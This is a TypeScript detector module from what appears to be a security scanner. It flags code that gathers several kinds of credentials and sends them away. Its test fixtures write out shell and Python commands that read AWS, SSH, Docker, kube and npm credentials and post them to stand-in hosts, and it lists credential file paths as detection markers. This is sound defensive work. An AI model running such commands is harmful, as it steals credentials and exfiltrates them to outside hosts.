import { createScanner } from '../inspect/scanner.ts';
import type { Effect, SecretKind } from '../trace/effect.ts';
import { secretsIn } from '../trace/effects/secrets.ts';
import type { Language, Stage } from '../trace/story.ts';
import { destinationOf, leaves } from './destinations.ts';
import type { Detector, FindingDraft, Scene } from './detector.ts';
import { secretsOf } from './exfiltration.ts';
import { credentialKinds, secretWords } from './secret-words.ts';
import { findingOf, isHidden, sightingOf } from './sighting.ts';

/** Credentials of several kinds gathered by one piece of code. */
export const credentialGathering: Detector = {
  id: 'credential-gathering',
  version: 1,
  title: 'Gathers credentials of several kinds.',
  attack: ['T1552.001', 'T1552.004', 'T1555', 'T1003.008'],
  description: `
A program reads its own credentials. One that reads SSH keys *and* cloud credentials *and* registry tokens *and* wallets gathers
what it can get. *Malicious* when the same code also sends something away; *suspicious* when it gathers three kinds or more (or
searches whole disks for keys) and nothing shows what becomes of them. Credentials moved to where they belong
(\`cp /secrets/aws ~/.aws/credentials\`) and lists of paths in tools that look for leaks do not count.
`,
  fires: [
    {
      name: 'into a folder, then away as a file with another name',
      image: {
        cmd: [
          'sh',
          '-c',
          'mkdir /tmp/.x; cat ~/.aws/credentials ~/.ssh/id_rsa > /tmp/.x/a; cat ~/.docker/config.json >> /tmp/.x/a; mv /tmp/.x/a /tmp/.x/b; curl -F "f=@/tmp/.x/b" https://c.example/u',
        ],
      },
    },
    {
      name: 'in Python',
      image: {
        cmd: ['python3', '/s.py'],
        files: {
          '/s.py': [
            'import os, requests, base64',
            "paths = ['~/.aws/credentials', '~/.ssh/id_rsa', '~/.npmrc', '~/.kube/config']",
            'out = {}',
            'for p in paths:',
            '    out[p] = base64.b64encode(open(os.path.expanduser(p), "rb").read())',
            "requests.post('http://203.0.113.9/c', data=str(out))",
          ].join('\n'),
        },
      },
    },
    {
      name: 'gathered, nothing sent',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', 'cat ~/.aws/credentials ~/.ssh/id_rsa ~/.kube/config ~/.npmrc > /tmp/.d; exec app'] },
    },
  ],
  silent: [
    {
      name: 'put in their place',
      image: {
        cmd: [
          'sh',
          '-c',
          'cp -r /mnt/creds/.aws ~/.aws; cp -r /mnt/creds/.ssh ~/.ssh; cp /mnt/creds/.kube/config ~/.kube/config; chmod 600 ~/.ssh/id_rsa; exec app',
        ],
      },
    },
    {
      name: 'one kind, used',
      image: {
        cmd: [
          'sh',
          '-c',
          'export TOKEN=$(cat ~/.vault-token); curl -H "X-Vault-Token: $TOKEN" https://vault.example/v1/x; exec app',
        ],
      },
    },
    {
      name: 'a list of paths to leave out',
      image: {
        cmd: ['sh', '-c', 'tar czf /backup/home.tgz --exclude=.ssh --exclude=.aws --exclude=.kube /home; exec app'],
      },
    },
  ],
  detect(scene) {
    const groups = new Map<number, Effect[]>();
    for (const effect of scene.story.effects) {
      const list = groups.get(effect.stage) ?? [];
      if (list.length < mostOfOne) list.push(effect);
      groups.set(effect.stage, list);
    }
    return [...groups].flatMap(([id, effects]) => judged(scene, scene.story.stages[id] as Stage, effects));
  },
};

const mostOfOne = 2000;

function judged(scene: Scene, stage: Stage, effects: readonly Effect[]): readonly FindingDraft[] {
  const read = effects.filter((effect) => effect.kind === 'secret');
  const egress = effects.filter((effect) => effect.kind === 'exfiltrate' && leaves(destinationOf(effect.to)));
  const kinds = new Set<SecretKind>(read.map((effect) => (effect as Extract<Effect, { kind: 'secret' }>).what));
  const byText = scriptLanguages.has(stage.language) && egress.length > 0;
  if (byText) for (const kind of pathsIn(stage.text)) kinds.add(kind);
  const strong = [...kinds].filter((kind) => credentialKinds.has(kind));
  // What is sent is itself known to be a secret: `exfiltration` says so.
  const told = egress.some((effect) => effect.kind === 'exfiltrate' && secretsOf(effect).size > 0);
  const sends = egress.length > 0 && strong.length >= 2;
  if (!sends && strong.length < 3) return [];
  if (told && strong.length < 3) return [];
  const anchor = egress[0] ?? read[0];
  if (!anchor) return [];
  const sighting = sightingOf(scene, anchor);
  return findingOf(scene, sighting, {
    threat: sends || isHidden(sighting.decoded) ? 'hostile' : 'dual-use',
    title: `Gathers ${secretWords(new Set(strong))}${sends ? ' and sends data away' : ''}`,
    because: sends
      ? 'The same code reads credentials of several kinds and sends something away.'
      : 'No single program needs credentials of so many kinds.',
    confidence: byText && read.length === 0 ? 'medium' : 'high',
    effects: [...read, ...egress].slice(0, 20).map(({ id }) => id),
  });
}

const scriptLanguages: ReadonlySet<Language> = new Set<Language>([
  'python',
  'javascript',
  'perl',
  'php',
  'ruby',
  'lua',
  'powershell',
]);

/** Marks of paths that hold credentials: only a text with one of them is looked through. */
const marks = [
  '.aws',
  '.ssh',
  'id_rsa',
  '.kube',
  '.docker',
  '.npmrc',
  '.pypirc',
  '.git-credentials',
  '.netrc',
  'wallet',
  '.config/gcloud',
  '.azure',
  'shadow',
  'Login Data',
  'logins.json',
  'tdata',
  '.vault-token',
];
const scanner = createScanner(marks.map((text) => ({ text })));
const encoder = new TextEncoder();
const maximumText = 400_000;

/** Kinds of secrets whose paths stand in a script as literals. */
function pathsIn(text: string): ReadonlySet<SecretKind> {
  const part = text.slice(0, maximumText);
  const ends: number[] = [];
  scanner.scan(scanner.start(), encoder.encode(part), (_pattern, end) => {
    if (ends.length < 200) ends.push(end);
  });
  const found = new Set<SecretKind>();
  // Offsets are of bytes: a window wide enough for a path around each makes up for wider characters before it.
  for (const end of ends.sort((one, other) => one - other)) {
    for (const kind of secretsIn(part.slice(Math.max(0, end - 80), end + 80))) found.add(kind);
  }
  return found;
}
